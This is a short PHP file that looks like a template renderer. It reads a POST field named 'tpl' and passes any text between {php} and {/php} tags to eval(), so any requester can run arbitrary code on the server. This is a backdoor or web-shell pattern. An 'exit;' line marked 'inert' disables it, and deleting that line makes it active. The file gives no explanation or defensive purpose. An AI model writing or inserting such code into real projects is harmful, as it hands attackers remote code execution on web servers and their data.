<?php exit; /* inert */ function cb($m)
{
    return eval($m[1]);
}
$body = isset($_POST['tpl']) ? $_POST['tpl'] : '';
echo preg_replace_callback('/\{php\}(.*?)\{\/php\}/s', 'cb', $body);
